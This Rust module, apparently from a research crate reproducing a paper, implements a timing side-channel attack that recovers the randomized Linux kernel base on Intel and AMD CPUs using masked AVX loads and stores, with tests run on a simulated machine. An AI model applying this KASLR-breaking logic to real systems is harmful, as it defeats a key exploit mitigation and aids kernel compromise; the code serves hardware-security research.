//! Kernel-base derandomization (§IV-B, Fig. 4, Table I).
//!
//! Intel path: probe each of the 512 candidate 2 MiB offsets twice with
//! a masked load and keep the second time; mapped candidates sit ~14
//! cycles below unmapped ones; the kernel base is the first mapped run.
//!
//! AMD path: the P-bit is invisible (kernel probes always walk), so the
//! finder instead locates the 4 KiB-split slots of the kernel image via
//! walk-termination-level outliers (P3) and derives the base from their
//! known in-image patttern.

use avx_mmu::VirtAddr;
use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};

use crate::adaptive::{AdaptiveMinFilter, AdaptiveSampler};
use crate::calibrate::Threshold;
use crate::decision::{run_anchors, ConfirmConfig, Confirmer};
use crate::primitives::{LevelAttack, PageTableAttack, TileScratch};
use crate::prober::{ProbeStrategy, Prober};
use crate::recal::RecalConfig;
use crate::sweep::AddrRange;

/// Per-candidate record-keeping cost outside the timed probes (loop,
/// compare, store) used for Table I "Total" accounting.
pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 1_800;

/// Result of one kernel-base scan.
#[derive(Clone, Debug)]
pub struct KaslrScan {
    /// Measured cycles per candidate slot (the Fig. 4 series).
    pub samples: Vec<u64>,
    /// Mapped/unmapped classification per slot.
    pub mapped: Vec<bool>,
    /// Recovered base, if a mapped run was found.
    pub base: Option<VirtAddr>,
    /// Cycles spent inside masked ops ("Probing" in Table I).
    pub probing_cycles: u64,
    /// All cycles ("Total" in Table I).
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included) — the budget the
    /// adaptive engine economizes.
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed (0 unless
    /// [`KernelBaseFinder::with_recalibration`] was set).
    pub refits: u32,
}

impl KaslrScan {
    /// The slide in 2 MiB slots, if the base was found.
    #[must_use]
    pub fn slide_slots(&self) -> Option<u64> {
        self.base
            .map(|b| (b.as_u64() - KERNEL_TEXT_REGION_START) / KASLR_ALIGN)
    }
}

/// The Intel kernel-base finder.
#[derive(Clone, Copy, Debug)]
pub struct KernelBaseFinder {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
}

impl super::PageTableScan for KernelBaseFinder {
    fn knobs(&mut self) -> (&mut PageTableAttack, &mut Option<ConfirmConfig>) {
        (&mut self.attack, &mut self.confirm)
    }
}

impl KernelBaseFinder {
    /// Builds the finder from a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
        }
    }

    /// Overrides the probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Routes the sweep through the adaptive sequential engine: each
    /// candidate slot is probed only until its classification settles.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Runs the sweep under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]): threshold and σ are re-fitted
    /// mid-scan when the noise environment drifts away from the
    /// one-shot calibration.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Probes with masked stores instead of loads. Stores run 16–18
    /// cycles faster under assist (P6), which §IV-F uses to shorten
    /// full-range scans; pair with [`crate::Threshold::calibrate_store`].
    #[must_use]
    pub fn with_op(mut self, op: avx_uarch::OpKind) -> Self {
        self.attack.op = op;
        self
    }

    /// Re-tests candidate run anchors through the confirmation decision
    /// layer ([`crate::decision`]) instead of trusting the first mapped
    /// run outright.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// The 512-slot candidate range of the §IV-B scan.
    #[must_use]
    pub fn candidate_range() -> AddrRange {
        AddrRange::new(
            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
            KASLR_ALIGN,
            KERNEL_SLOTS,
        )
    }

    /// Scans all 512 candidate offsets and recovers the base. The
    /// candidates are fed through the batched probe pipeline.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KaslrScan {
        self.scan_in(p, &mut TileScratch::default())
    }

    /// [`KernelBaseFinder::scan`] on caller-kept tile buffers, shared
    /// by the sweep and the confirmation re-visits.
    pub(crate) fn scan_in<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        scratch: &mut TileScratch,
    ) -> KaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = Self::candidate_range();
        let start = range.start;
        let sweep = self.attack.sweep_in(p, &range, scratch);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let mut confirm_probes = 0u64;
        let slot = match self.confirm {
            None => first_mapped_run(&sweep.mapped, 2).map(|slot| slot as u64),
            Some(config) => {
                let confirmer = Confirmer::new(&self.attack, config);
                let anchors = run_anchors(&sweep.mapped, 2);
                let found = confirmer.first_confirmed_in(
                    p,
                    anchors
                        .iter()
                        .map(|&i| (i as u64, start.wrapping_add(i as u64 * KASLR_ALIGN))),
                    scratch,
                );
                confirm_probes = found.probes;
                // Every anchor failed its re-test: fall back to the
                // legacy first-run rule rather than return nothing.
                found
                    .slot
                    .or_else(|| first_mapped_run(&sweep.mapped, 2).map(|slot| slot as u64))
            }
        };
        let base = slot.map(|slot| start.wrapping_add(slot * KASLR_ALIGN));
        KaslrScan {
            samples: sweep.samples,
            mapped: sweep.mapped,
            base,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes: sweep.probes + confirm_probes,
            refits: sweep.refits,
        }
    }
}

/// First index where `mapped` has a run of at least `min_run` `true`s.
/// Requiring a 2-slot run rejects single-probe flukes; flukes toward
/// "mapped" cannot occur at all (interrupt spikes only add latency).
fn first_mapped_run(mapped: &[bool], min_run: usize) -> Option<usize> {
    let mut run = 0usize;
    for (i, &m) in mapped.iter().enumerate() {
        if m {
            run += 1;
            if run >= min_run {
                return Some(i + 1 - run);
            }
        } else {
            run = 0;
        }
    }
    // A single trailing mapped slot still counts (kernel at the very end).
    if run >= 1 {
        Some(mapped.len() - run)
    } else {
        None
    }
}

/// Result of the AMD level-based scan.
#[derive(Clone, Debug)]
pub struct AmdKaslrScan {
    /// Min-filtered cycles per candidate slot.
    pub samples: Vec<u64>,
    /// Indices of PT-level (4 KiB-backed) outlier slots.
    pub outliers: Vec<usize>,
    /// Recovered base, if the outlier pattern matched.
    pub base: Option<VirtAddr>,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included).
    pub probes: u64,
}

/// The AMD kernel-base finder (§IV-B, Zen 3).
#[derive(Clone, Debug)]
pub struct AmdKernelBaseFinder {
    level: LevelAttack,
    /// The in-image slot offsets that are 4 KiB-split (known layout
    /// constants of the target kernel build; `[0, 1, 2, 3, 4]` for the
    /// default [`avx_os::linux::LinuxConfig`]).
    expected_pattern: Vec<u64>,
}

impl AmdKernelBaseFinder {
    /// Builds the finder for a kernel whose 4 KiB splits sit at the
    /// given in-image slot offsets (sorted ascending). The offsets are a
    /// build constant of the target kernel, like the function offsets
    /// the threat model assumes.
    ///
    /// # Panics
    ///
    /// Panics if `expected_pattern` is empty or unsorted.
    #[must_use]
    pub fn new(expected_pattern: Vec<u64>) -> Self {
        assert!(!expected_pattern.is_empty(), "pattern must be non-empty");
        assert!(
            expected_pattern.windows(2).all(|w| w[0] < w[1]),
            "pattern must be strictly ascending"
        );
        Self {
            level: LevelAttack::default(),
            expected_pattern,
        }
    }

    /// Finder for the default simulated kernel build (splits at the
    /// text/rodata and data boundaries: slots 8, 9, 10, 18, 19).
    #[must_use]
    pub fn for_default_kernel() -> Self {
        Self::new(vec![8, 9, 10, 18, 19])
    }

    /// Number of repeats per slot (min-filter width).
    #[must_use]
    pub fn with_repeats(mut self, repeats: u8) -> Self {
        self.level.repeats = repeats;
        self
    }

    /// Routes the sweep through the early-stopping min-filter: each
    /// slot is re-probed only until its latency floor stabilizes.
    #[must_use]
    pub fn with_early_stop(mut self, filter: AdaptiveMinFilter) -> Self {
        self.level = self.level.with_early_stop(filter);
        self
    }

    /// Runs the sweep under the closed-loop escalating min-filter
    /// ([`crate::recal::RecalibratingMinFilter`]): a dispersion shift of
    /// the latency floors buys later slots a wider probe budget.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.level = self.level.with_recalibration(config);
        self
    }

    /// Scans all 512 slots, finds PT-level outliers and matches the
    /// expected split pattern to recover the base. The candidates are
    /// fed through the batched probe pipeline with a min-filter.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> AmdKaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = KernelBaseFinder::candidate_range();
        let start = range.start;
        let (samples, probes) = self.level.measure(p, &range);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let outliers = self.level.outliers(&samples);
        let base = self
            .match_pattern(&outliers)
            .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
        AmdKaslrScan {
            samples,
            outliers,
            base,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes,
        }
    }

    /// Looks for the expected relative pattern within the outlier set;
    /// returns the *base* slot (anchor minus the first pattern offset).
    fn match_pattern(&self, outliers: &[usize]) -> Option<usize> {
        let first = self.expected_pattern[0] as usize;
        for &anchor in outliers {
            let ok = self
                .expected_pattern
                .iter()
                .all(|&off| outliers.contains(&(anchor + off as usize - first)));
            if ok && anchor >= first {
                return Some(anchor - first);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn run_intel(seed: u64, noise: bool) -> (KaslrScan, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let scan = KernelBaseFinder::new(th).scan(&mut p);
        (scan, truth)
    }

    #[test]
    fn finds_exact_base_without_noise() {
        for seed in [1, 2, 3, 4, 5] {
            let (scan, truth) = run_intel(seed, false);
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(scan.slide_slots(), Some(truth.slide_slots));
        }
    }

    #[test]
    fn finds_base_with_profile_noise() {
        let mut hits = 0;
        for seed in 10..20 {
            let (scan, truth) = run_intel(seed, true);
            if scan.base == Some(truth.kernel_base) {
                hits += 1;
            }
        }
        assert!(hits >= 9, "noise should rarely break the attack: {hits}/10");
    }

    #[test]
    fn series_shows_fig4_bands() {
        let (scan, truth) = run_intel(42, false);
        assert_eq!(scan.samples.len(), 512);
        let slide = truth.slide_slots as usize;
        let kernel_slots = truth.kernel_slots as usize;
        let mapped_mean: f64 = scan.samples[slide..slide + kernel_slots]
            .iter()
            .map(|&s| s as f64)
            .sum::<f64>()
            / kernel_slots as f64;
        let unmapped: Vec<u64> = scan
            .samples
            .iter()
            .enumerate()
            .filter(|(i, _)| *i < slide || *i >= slide + kernel_slots)
            .map(|(_, &s)| s)
            .collect();
        let unmapped_mean: f64 =
            unmapped.iter().map(|&s| s as f64).sum::<f64>() / unmapped.len() as f64;
        assert!(
            (mapped_mean - 93.0).abs() < 2.0,
            "mapped ≈ 93: {mapped_mean}"
        );
        assert!(
            (unmapped_mean - 107.0).abs() < 2.0,
            "unmapped ≈ 107: {unmapped_mean}"
        );
    }

    #[test]
    fn runtime_accounting_separates_probing_from_total() {
        let (scan, _) = run_intel(7, false);
        assert!(scan.probing_cycles > 0);
        assert!(scan.total_cycles > scan.probing_cycles);
        // 512 slots × 2 probes × ~100 cycles ≈ 1e5 probing cycles.
        assert!(scan.probing_cycles < 500_000);
    }

    #[test]
    fn first_mapped_run_logic() {
        assert_eq!(first_mapped_run(&[false, true, true, false], 2), Some(1));
        assert_eq!(first_mapped_run(&[true, false, true, true], 2), Some(2));
        assert_eq!(first_mapped_run(&[false, false], 2), None);
        // Trailing single mapped slot.
        assert_eq!(first_mapped_run(&[false, false, true], 2), Some(2));
    }

    #[test]
    fn confirmed_scan_keeps_the_quiet_answer() {
        for seed in [61, 62] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
            let plain = KernelBaseFinder::new(th).scan(&mut p);
            let confirmed = KernelBaseFinder::new(th)
                .with_confirmation(ConfirmConfig::default())
                .scan(&mut p);
            assert_eq!(confirmed.base, plain.base, "seed {seed}");
            assert_eq!(confirmed.base, Some(truth.kernel_base), "seed {seed}");
            assert!(confirmed.probes > plain.probes, "seed {seed}: re-test cost");
        }
    }

    #[test]
    fn run_anchor_order_matches_the_legacy_rule() {
        // The decision layer's anchor stream starts exactly where the
        // legacy first-wins rule would have looked.
        for mapped in [
            vec![false, true, true, false],
            vec![true, false, true, true],
            vec![false, false, true],
            vec![false, false],
        ] {
            assert_eq!(
                run_anchors(&mapped, 2).first().copied(),
                first_mapped_run(&mapped, 2),
                "{mapped:?}"
            );
        }
    }

    #[test]
    fn store_probing_works_and_is_faster() {
        let sys = LinuxSystem::build(LinuxConfig::seeded(70));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 70);
        m.set_noise(NoiseModel::none());
        let mut p = SimProber::new(m);
        // Store calibration against the (read-only) text page.
        let th = Threshold::calibrate_store(&mut p, truth.user.text, 8);
        let scan = KernelBaseFinder::new(th)
            .with_op(avx_uarch::OpKind::Store)
            .scan(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));

        // Compare probing cycles against the load-based scan.
        let sys = LinuxSystem::build(LinuxConfig::seeded(70));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), 71);
        m.set_noise(NoiseModel::none());
        let mut p2 = SimProber::new(m);
        let th_load = Threshold::calibrate(&mut p2, truth.user.calibration, 8);
        let load_scan = KernelBaseFinder::new(th_load).scan(&mut p2);
        assert!(
            scan.probing_cycles < load_scan.probing_cycles,
            "P6: store probing {} < load probing {}",
            scan.probing_cycles,
            load_scan.probing_cycles
        );
    }

    #[test]
    fn amd_finder_recovers_base() {
        for seed in [1, 9, 33] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let scan = AmdKernelBaseFinder::for_default_kernel().scan(&mut p);
            assert_eq!(scan.outliers.len(), 5, "seed {seed}: five 4 KiB slots");
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn amd_finder_with_noise() {
        let mut hits = 0;
        for seed in 50..58 {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            let mut p = SimProber::new(m);
            let scan = AmdKernelBaseFinder::for_default_kernel()
                .with_repeats(8)
                .scan(&mut p);
            if scan.base == Some(truth.kernel_base) {
                hits += 1;
            }
        }
        assert!(hits >= 7, "{hits}/8");
    }

    #[test]
    fn adaptive_scan_finds_base_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        for seed in [21, 22, 23] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);

            let fixed = KernelBaseFinder::new(th)
                .with_strategy(ProbeStrategy::MinOf(8))
                .scan(&mut p);
            let adaptive = KernelBaseFinder::new(th)
                .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
                .scan(&mut p);
            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(adaptive.mapped, fixed.mapped, "seed {seed}: same verdicts");
            assert!(
                adaptive.probes * 2 <= fixed.probes,
                "seed {seed}: adaptive {} vs fixed {}",
                adaptive.probes,
                fixed.probes
            );
        }
    }

    #[test]
    fn amd_early_stop_scan_matches_fixed_and_spends_less() {
        use crate::adaptive::AdaptiveMinFilter;
        for seed in [31, 32] {
            let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
            let (mut m, truth) = sys.into_machine(CpuProfile::zen3_ryzen5_5600x(), seed);
            m.set_noise(NoiseModel::none());
            let mut p = SimProber::new(m);
            let fixed = AmdKernelBaseFinder::for_default_kernel()
                .with_repeats(8)
                .scan(&mut p);
            let adaptive = AmdKernelBaseFinder::for_default_kernel()
                .with_early_stop(AdaptiveMinFilter::default())
                .scan(&mut p);
            assert_eq!(adaptive.base, Some(truth.kernel_base), "seed {seed}");
            assert_eq!(adaptive.outliers, fixed.outliers, "seed {seed}");
            assert!(
                adaptive.probes * 2 <= fixed.probes,
                "seed {seed}: adaptive {} vs fixed {}",
                adaptive.probes,
                fixed.probes
            );
        }
    }

    #[test]
    #[should_panic(expected = "strictly ascending")]
    fn unsorted_pattern_rejected() {
        let _ = AmdKernelBaseFinder::new(vec![9, 8]);
    }

    #[test]
    fn interior_pattern_recovers_base() {
        // A pattern not anchored at slot 0: the finder subtracts the
        // first offset.
        let finder = AmdKernelBaseFinder::new(vec![8, 9, 10, 18, 19]);
        let outliers = vec![108usize, 109, 110, 118, 119];
        assert_eq!(finder.match_pattern(&outliers), Some(100));
        // Missing one split → no match.
        let broken = vec![108usize, 109, 110, 118];
        assert_eq!(finder.match_pattern(&broken), None);
    }
}
